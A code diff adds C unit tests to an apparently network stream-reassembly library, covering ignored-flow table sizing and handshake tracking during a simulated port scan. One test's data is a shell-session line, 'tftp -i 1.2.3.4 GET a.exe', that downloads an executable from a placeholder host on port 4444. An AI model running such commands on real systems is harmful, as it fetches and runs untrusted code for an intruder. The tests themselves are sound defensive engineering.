@@ -475,6 +475,100 @@ static void test_long_queued_run(void)
 	ws_reasm_finish();
 }
 
+/*
+ * README "Screening": the ignored set starts small and doubles while its
+ * flows live; an entry it had to drop for room only costs that flow a
+ * second look; entries gone stale are compacted away, not doubled for.
+ */
+static void test_ignored_set_size(void)
+{
+	enum { N = 6000 };
+	const struct ws_reasm_stats *st;
+	uint64_t first_slots, calls;
+
+	start(NULL, 0, WS_CSUM_ON, 16, true);
+	first_slots = ws_reasm_stats()->ignored_slots;
+	for (uint32_t i = 0; i < N; i++) {
+		struct conn c = conn(0x54000000 + i * 7, (uint16_t)(1024 + i), 80);
+
+		say(&c, 1, "HTTP/1.0 200 OK\r\n");
+	}
+	st = ws_reasm_stats();
+	CHECK(st->screen_ignored == N, "every flow ignored (%llu)",
+	      (unsigned long long)st->screen_ignored);
+	CHECK(first_slots >= 1024 && st->ignored_slots >= 4 * (uint64_t)N / 2 &&
+	      st->ignored_resized >= 1, "the set grew from %llu to %u slots for %d flows",
+	      (unsigned long long)first_slots, st->ignored_slots, N);
+	CHECK(st->ignored_replaced < N / 100, "few entries replaced (%llu)",
+	      (unsigned long long)st->ignored_replaced);
+	calls = (uint64_t)nscreen_calls;
+	for (uint32_t i = 0; i < N; i++) {
+		struct conn c = conn(0x54000000 + i * 7, (uint16_t)(1024 + i), 80);
+
+		c.sseq += 17;
+		say(&c, 1, "more of the page");
+	}
+	CHECK((uint64_t)nscreen_calls - calls == st->ignored_replaced,
+	      "only flows dropped for room screened again (%llu of %llu)",
+	      (unsigned long long)((uint64_t)nscreen_calls - calls),
+	      (unsigned long long)st->ignored_replaced);
+	ws_reasm_finish();
+
+	/*
+	 * Stale entries: just under a quarter of the first table, then, past
+	 * idle_timeout (60 s), more than fills it again: the resize finds most
+	 * entries stale and compacts instead of doubling.
+	 */
+	start(NULL, 0, WS_CSUM_ON, 16, true);
+	first_slots = ws_reasm_stats()->ignored_slots;
+	for (int round = 0; round < 2; round++) {
+		uint32_t n = round == 0 ? (uint32_t)first_slots / 4 - 8 : 600;
+
+		for (uint32_t i = 0; i < n; i++) {
+			struct conn c = conn(0x55000000 + i * 7 + (uint32_t)round, (uint16_t)(2048 + i), 80);
+
+			say(&c, 1, "HTTP/1.0 200 OK\r\n");
+		}
+		now_sec += 120;
+	}
+	st = ws_reasm_stats();
+	CHECK(st->ignored_slots == first_slots && st->ignored_resized == 1,
+	      "stale entries compacted, not doubled for (%u slots, %llu resizes)",
+	      st->ignored_slots, (unsigned long long)st->ignored_resized);
+	ws_reasm_finish();
+}
+
+/*
+ * A handshake is remembered through a scan: 3000 SYNs to other hosts
+ * between it and its first data (out of order) still leave its ISN, so
+ * the second segment waits for the first instead of starting the stream.
+ */
+static void test_handshake_through_scan(void)
+{
+	static const uint16_t ports[] = {4444};
+	struct conn shell = conn(0x56000001, 3333, 4444);
+	const struct ws_reasm_stats *st;
+
+	expect_client = "tftp -i 1.2.3.4 GET a.exe\n";
+	start(ports, 1, WS_CSUM_ON, 16, true);
+	handshake(&shell);
+	for (uint32_t i = 0; i < 3000; i++) {
+		struct conn scan = conn(0x57000000 + i, (uint16_t)(40000 + i % 20000), 135);
+
+		send_tcp(&scan, 0, TH_SYN, 77 * i, "");
+	}
+	send_tcp(&shell, 0, TH_ACK, shell.cseq + 5, "-i 1.2.3.4 GET a.exe\n");
+	say(&shell, 0, "tftp ");
+	st = ws_reasm_stats();
+	CHECK(st->pickups == 0 && st->syn_cached >= 3002, "handshake kept (%llu picked up)",
+	      (unsigned long long)st->pickups);
+	ws_reasm_finish();
+	CHECK(nclosed == 1 && closed[0].n[0] == strlen(expect_client) &&
+	      memcmp(closed[0].bytes[0], expect_client, closed[0].n[0]) == 0,
+	      "the stream starts at the ISN, both segments in order");
+	expect_client = NULL;
+}
+
 int main(void)
 {
 	test_both_directions_and_close();
@@ -486,6 +580,8 @@ int main(void)
 	test_checksums();
 	test_overlap_warning();
 	test_long_queued_run();
+	test_ignored_set_size();
+	test_handshake_through_scan();
 	if (failures)
 		fprintf(stderr, "%d check(s) failed\n", failures);
 	else
